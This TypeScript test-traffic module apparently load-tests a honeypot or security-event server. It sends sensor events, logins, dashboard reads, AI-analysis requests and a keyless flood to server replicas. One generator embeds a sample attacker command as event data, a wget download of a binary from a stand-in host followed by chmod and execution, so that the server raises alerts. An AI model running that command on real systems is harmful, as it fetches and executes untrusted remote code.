import { appendFileSync } from 'node:fs'
import { setTimeout as sleep } from 'node:timers/promises'
import { createUnderWay } from '../server/src/platform/under-way.js'
import { PASSWORD, SENSOR_KEY } from './server-process.js'

/** One kind of request; `route` is the pattern under which the server counts it. */
interface Kind {
  method: string
  route: string
  headers?: Record<string, string>
  body?: () => string
}

const JSON_TYPE = { 'content-type': 'application/json' }
const BY_KEY = { ...JSON_TYPE, authorization: `Bearer ${SENSOR_KEY}` }
let sent = 0

function anEvent(): string {
  sent += 1
  const source_ip = `203.0.113.${sent % 250}`
  return JSON.stringify({
    source_ip,
    occurred_at: new Date().toISOString(),
    event_type: 'command',
    command: `uname -a # ${sent}`,
    session: `s${sent % 50}`,
  })
}

/** Fetches a program and runs it: an alert, of a source of its own. */
function anAttack(): string {
  sent += 1
  return JSON.stringify({
    source_ip: `198.51.${(sent >> 8) & 255}.${sent & 255}`,
    occurred_at: new Date().toISOString(),
    event_type: 'command',
    command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
    session: `a${sent}`,
  })
}

function kindsOf({ token, sessionIds }: Pick<TrafficOptions, 'token' | 'sessionIds'>): Kind[] {
  const login = () => JSON.stringify({ username: 'admin', password: PASSWORD })
  const reading = { authorization: `Bearer ${token}` }
  const post = { method: 'POST', route: '/log' }
  return [
    { ...post, headers: BY_KEY, body: anEvent },
    { ...post, headers: BY_KEY, body: anAttack },
    { ...post, headers: BY_KEY, body: () => 'no JSON' },
    { ...post, headers: JSON_TYPE, body: anEvent },
    { method: 'POST', route: '/services/collector', headers: BY_KEY, body: () => `{"event":${anEvent()}}` },
    { method: 'GET', route: '/sessions', headers: reading },
    { method: 'GET', route: '/dashboard/stats', headers: reading },
    { method: 'POST', route: '/auth/login', headers: JSON_TYPE, body: login },
    {
      method: 'POST',
      route: '/ai/analyze',
      headers: { ...reading, ...JSON_TYPE },
      body: () => JSON.stringify({ session_id: sessionIds[sent % sessionIds.length] }),
    },
  ]
}

/** What comes without a key in a flood: nothing that an objective may count. */
const KEYLESS: Kind = { method: 'POST', route: '/log', headers: JSON_TYPE, body: anEvent }

export interface TrafficOptions {
  urls: readonly string[]
  token: string
  /** Sessions to analyse; at least one. */
  sessionIds: readonly string[]
  /** Receives a line for each request: what its client saw. */
  clientLog: string
  /** A client leaves after so long without an answer. */
  patienceMs: number
}

/** Mixed traffic of impatient clients to all replicas in turn, until `done` says so; resolves when every request has ended. */
export async function mixedTraffic(options: TrafficOptions, done: () => boolean): Promise<void> {
  const kinds = kindsOf(options)
  const open = createUnderWay()
  for (let n = 0; !done(); n += 1) {
    const url = options.urls[n % options.urls.length] ?? ''
    // Replicas and kinds are as many by as many: without the shift each replica would get half of the kinds.
    const kind = kinds[(n + Math.floor(n / kinds.length)) % kinds.length] as Kind
    open.add(ask(url, kind, options))
    await sleep(20)
  }
  await open.settled()
}

/** Requests without a key, as fast as so many clients can, until `done` says so. */
export async function keylessFlood(
  options: TrafficOptions,
  clients: number,
  done: () => boolean,
): Promise<void> {
  const flood = async (_: unknown, client: number) => {
    const url = options.urls[client % options.urls.length] ?? ''
    while (!done()) await ask(url, KEYLESS, options)
  }
  await Promise.all(Array.from({ length: clients }, flood))
}

async function ask(url: string, kind: Kind, { clientLog, patienceMs }: TrafficOptions): Promise<void> {
  const begun = Date.now()
  const status = await fetch(`${url}${kind.route}`, {
    method: kind.method,
    ...(kind.headers && { headers: kind.headers }),
    ...(kind.body && { body: kind.body() }),
    signal: AbortSignal.timeout(patienceMs),
  })
    .then(async (answer) => {
      await answer.arrayBuffer()
      return answer.status
    })
    .catch(() => null)
  const seen = {
    timestamp: new Date(begun).toISOString(),
    method: kind.method,
    route: kind.route,
    status,
    duration_ms: Date.now() - begun,
  }
  appendFileSync(clientLog, `${JSON.stringify(seen)}\n`)
}
